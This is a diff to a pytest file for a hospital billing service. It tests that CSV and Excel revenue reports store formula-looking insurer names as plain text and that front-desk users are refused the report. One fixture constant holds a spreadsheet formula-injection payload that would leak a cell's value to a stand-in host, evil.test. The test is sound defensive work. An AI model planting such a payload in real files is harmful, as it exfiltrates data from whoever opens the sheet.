@@ -1,13 +1,16 @@
 """A report as a spreadsheet (issue 18, item 4): the revenue report fetched from /rest/v1 with
-`Accept: text/csv`, as an admin's browser downloads it, opens with the typed text that looks like
-a formula (an insurer named `=HYPERLINK(...)`) as text, never as a formula. Runs on the demo
+`Accept: text/csv`, as an admin's browser downloads it, and as an Excel workbook from the
+sidecar, opens with the typed text that looks like a formula (an insurer named
+`=HYPERLINK(...)`) as text, never as a formula; the front desk gets no report. Runs on the demo
 hospital; the invoice it makes is removed afterwards."""
 
 from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from collections.abc import Iterator
+from xml.etree import ElementTree
 
 import httpx
 import psycopg
@@ -15,11 +18,16 @@ import pytest
 
 from devstack.config import Settings
 from devstack.gateway.tokens import issue
+from sidecar.app import create_app
+from sidecar.settings import SidecarSettings
+from tests.fakes.server import LocalServer
 from tests.postgrest_session import PostgrestSession
 
 HOSPITAL = "10000000-0000-4000-8000-000000000001"
 PATIENT = "60000000-0000-4000-8000-000000000001"
 ADMIN = "admin@nabha.carebase.test"
+FRONT_DESK = "frontdesk@nabha.carebase.test"
+SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 INSURER = '=HYPERLINK("http://evil.test/?leak="&A1,"Star Health")'
 
 
@@ -78,3 +86,33 @@ def test_the_revenue_report_as_csv_keeps_formulas_as_text(
     assert insurers["'" + INSURER]["billed"] == "250.00"
     assert not any(row["label"][:1] in "=+-@" for table in rows.values() for row in table)
     assert "'+1+1 dressing" in {row["key"] for row in rows["service"]}
+
+
+def test_the_revenue_report_as_excel_keeps_formulas_as_text(
+    stack: Settings, gateway: str, formula_invoice: str
+) -> None:
+    with psycopg.connect(stack.dsn()) as conn:
+        admin = issue(PostgrestSession(conn).claims_for(ADMIN), stack.jwt_secret)
+        desk = issue(PostgrestSession(conn).claims_for(FRONT_DESK), stack.jwt_secret)
+    params = {
+        "hospital_id": HOSPITAL,
+        "start_date": formula_invoice,
+        "end_date": formula_invoice,
+        "group_by": "insurer",
+    }
+    with LocalServer(create_app(SidecarSettings(supabase_url=stack.api_url)), "on") as server:
+        url = f"{server.url}/api/v1/reports/revenue/xlsx"
+        answer = httpx.get(url, params=params, headers={"Authorization": f"Bearer {admin}"})
+        refused = httpx.get(url, params=params, headers={"Authorization": f"Bearer {desk}"})
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
+    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
+        assert {"[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"} <= set(
+            book.namelist()
+        )
+        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 (ours)
+    cells = sheet.iter(f"{SHEET}c")
+    texts = {"".join(c.itertext()): c.get("t") for c in cells}
+    assert texts["'" + INSURER] == "inlineStr", "text, never a formula"
+    assert not list(sheet.iter(f"{SHEET}f"))
+    assert (refused.status_code, refused.json()["code"]) == (403, "not_report_reader")
